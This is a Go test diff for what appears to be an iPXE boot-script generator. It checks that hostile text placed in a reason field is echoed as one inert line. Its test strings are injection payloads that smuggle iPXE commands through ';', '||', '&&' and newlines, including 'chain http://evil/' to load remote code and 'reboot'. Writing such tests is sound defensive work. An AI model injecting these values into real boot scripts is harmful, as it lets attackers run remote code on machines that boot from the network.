@@ -4,6 +4,7 @@ import (
 	"flag"
 	"os"
 	"path/filepath"
+	"slices"
 	"strings"
 	"testing"
 
@@ -158,4 +159,22 @@ func grubWord(t *testing.T, s string) string {
 		}
 	}
 	return outside.String()
+}
+
+// TestEchoedTextIsOneEcho plays hostile labels, which reasons quote, through iPXE's way to find the end of a command.
+func TestEchoedTextIsOneEcho(t *testing.T) {
+	for _, hostile := range []string{
+		"x ; chain http://evil/", "x || chain http://evil/", "x && reboot", "x\n\nchain http://evil/", "x\t;\tchain http://evil/", "x # cut", "; reboot", "${uuid}", "$${uuid}",
+	} {
+		plan := Plan{Do: Disk, Reason: "got " + hostile + " here"}
+		lines := strings.Split(string(plan.IPXE()), "\n")
+		if want := []string{"#!ipxe", lines[1], "exit 1", ""}; !slices.Equal(lines, want) {
+			t.Errorf("%q: the script is %q", hostile, lines)
+		}
+		for _, word := range strings.Fields(lines[1]) {
+			if word == ";" || word == "||" || word == "&&" || strings.HasPrefix(word, "#") || strings.Contains(word, "${") {
+				t.Errorf("%q: the echo is %q", hostile, lines[1])
+			}
+		}
+	}
 }
